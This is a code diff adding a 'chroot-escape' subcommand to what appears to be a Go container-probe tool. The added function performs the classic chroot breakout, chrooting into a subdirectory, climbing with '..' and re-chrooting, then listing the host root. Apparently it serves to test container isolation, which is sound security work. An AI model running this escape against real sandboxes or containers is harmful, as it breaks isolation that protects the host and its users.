@@ -18,6 +18,10 @@ func main() {
 		fmt.Fprintln(os.Stderr, "probe: refusing to run outside a container")
 		os.Exit(2)
 	}
+	if len(os.Args) > 1 && os.Args[1] == "chroot-escape" {
+		chrootEscape()
+		return
+	}
 	try := func(name string, err error) {
 		if err == nil {
 			fmt.Printf("%s=ok\n", name)
@@ -62,4 +66,36 @@ func errno(e syscall.Errno) error {
 		return nil
 	}
 	return e
+}
+
+// chrootEscape is the classic way out of a chroot, for a process that may
+// chroot (CAP_SYS_CHROOT): chroot into a subdirectory while cwd stays
+// outside it, climb with "..", chroot there. It prints the names in the /
+// it ends up in.
+func chrootEscape() {
+	fail := func(what string, err error) {
+		fmt.Fprintf(os.Stderr, "%s: %v\n", what, err)
+		os.Exit(1)
+	}
+	if err := os.MkdirAll("/escape", 0o755); err != nil {
+		fail("mkdir", err)
+	}
+	if err := unix.Chroot("/escape"); err != nil {
+		fail("chroot", err)
+	}
+	for i := 0; i < 64; i++ {
+		if err := unix.Chdir(".."); err != nil {
+			fail("chdir ..", err)
+		}
+	}
+	if err := unix.Chroot("."); err != nil {
+		fail("chroot .", err)
+	}
+	ents, err := os.ReadDir("/")
+	if err != nil {
+		fail("read /", err)
+	}
+	for _, e := range ents {
+		fmt.Println(e.Name())
+	}
 }
